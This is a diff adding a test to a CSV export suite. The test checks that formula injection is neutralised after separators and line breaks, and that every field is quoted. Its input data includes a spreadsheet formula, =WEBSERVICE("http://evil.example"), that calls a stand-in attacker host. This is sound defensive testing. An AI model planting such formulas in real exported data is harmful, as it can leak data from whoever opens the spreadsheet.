@@ -74,6 +74,20 @@ describe('downloads', () => {
     expect(filtered).toHaveLength(2);
   });
 
+  it('neutralises a formula after a separator or a line break, and quotes every field', async () => {
+    await post('lead', lead('Semicolon;=WEBSERVICE("http://evil.example")', { notes: 'a\n-2+3,@x' }));
+    const { body } = await download('lead', '&q=semicolon', 'es');
+    const [, row] = rowsOf(body);
+    expect(row![2]).toBe('Semicolon;\'=WEBSERVICE("http://evil.example")');
+    expect(row![6]).toBe("a\n'-2+3,'@x");
+    // Every field quoted, empty ones too (the phone, the email, the seller's number).
+    expect(body).toMatch(/^"ID","Fecha",/);
+    expect(body.split('\n')[1]).toMatch(
+      /^"\d+","\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}","Semicolon;'=WEBSERVICE\(""/,
+    );
+    expect(body).toContain(',"",');
+  });
+
   it('gives orders a row per line', async () => {
     const created = await post<Order>(
       'order',
